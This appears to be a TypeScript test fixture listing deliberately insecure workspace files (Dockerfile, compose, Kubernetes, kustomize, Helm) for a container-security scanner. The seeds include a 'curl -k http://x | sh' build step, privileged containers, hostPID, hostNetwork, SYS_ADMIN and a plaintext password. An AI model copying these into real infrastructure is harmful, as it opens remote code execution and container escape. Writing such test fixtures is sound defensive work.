import type { Seed } from "./hostile";

/** Files of one workspace, each of which another one reads. Those of a kind that says nothing by itself stand under the kind whose grammar they have. */
export const workspaceFiles: readonly Seed[] = [
  {
    kind: "dockerfile",
    path: "shop/Dockerfile",
    text: "ARG V=24\nFROM node:${V} AS base\nUSER root\nFROM base AS web\nCOPY . .\nRUN curl -k http://x | sh\nFROM base AS worker\nUSER app\n",
  },
  {
    kind: "compose",
    path: "shop/compose.yaml",
    text: "include: [ ../extra.yaml ]\nservices:\n  web:\n    image: ghcr.io/shop/web:1\n    build: { context: ., target: web }\n  worker:\n    image: shop/worker\n    build: { context: ., target: worker }\n    extends: { file: base.yaml, service: base }\n",
  },
  { kind: "compose", path: "shop/base.yaml", text: "services:\n  base:\n    user: root\n    image: a\n" },
  {
    kind: "compose",
    path: "extra.yaml",
    text: "services:\n  extra:\n    image: shop/worker\n    privileged: true\n",
  },
  {
    kind: "kubernetes",
    path: "k8s/web.yaml",
    text: "apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: web }\nspec:\n  template:\n    spec:\n      containers:\n      - name: web\n        image: ghcr.io/shop/web:1\n        securityContext: { runAsNonRoot: true }\n---\napiVersion: v1\nkind: Pod\nmetadata: { name: worker }\nspec:\n  containers:\n  - name: worker\n    image: shop/worker\n",
  },
  {
    kind: "kustomize",
    path: "k8s/kustomization.yaml",
    text: "resources: [web.yaml, sub]\nimages: [{ name: ghcr.io/shop/web, newTag: '2' }]\npatches: [{ path: patch.yaml }]\n",
  },
  {
    kind: "kubernetes",
    path: "k8s/patch.yaml",
    text: "apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: web }\nspec:\n  template:\n    spec:\n      hostPID: true\n",
  },
  { kind: "kustomize", path: "k8s/sub/kustomization.yaml", text: "resources: [pod.yaml]\n" },
  {
    kind: "kubernetes",
    path: "k8s/sub/pod.yaml",
    text: "apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec: { containers: [{ name: a, image: shop/worker }] }\n",
  },
  {
    kind: "devcontainer",
    path: "shop/.devcontainer/devcontainer.json",
    text: '{ "build": { "dockerfile": "../Dockerfile" }, "remoteUser": "node" }\n',
  },
  { kind: "shell", path: "shop/.dockerignore", text: "*\n!src\n.env\n" },
  { kind: "kustomize", path: "chart/Chart.yaml", text: "name: shop\n" },
  {
    kind: "helm",
    path: "chart/values.yaml",
    text: "pid: true\nimage: { name: web, tag: latest }\npassword: hunter2\nsecurity:\n    # modules\n    privileged: true\n    capabilities: { add: [SYS_ADMIN] }\n",
  },
  { kind: "helm", path: "chart/values-small.yaml", text: "image: { name: small }\n" },
  {
    kind: "helm",
    path: "chart/templates/web.yaml",
    text: 'apiVersion: v1\nkind: Pod\nmetadata: { name: b }\nspec:\n  hostPID: {{ .Values.pid }}\n  containers:\n  - name: b\n    image: "{{ .Values.image.name }}:{{ .Values.image.tag | default 1 }}"\n    env: [{ name: PASSWORD, value: {{ .Values.password | quote }} }]\n    {{- with .Values.security }}\n    securityContext:\n      {{- toYaml . | nindent 6 }}\n    {{- end }}\n',
  },
  {
    kind: "helm",
    path: "chart/templates/pod.yaml",
    text: "apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec:\n  hostNetwork: true\n  containers: [{ name: a, image: shop/worker }]\n",
  },
];
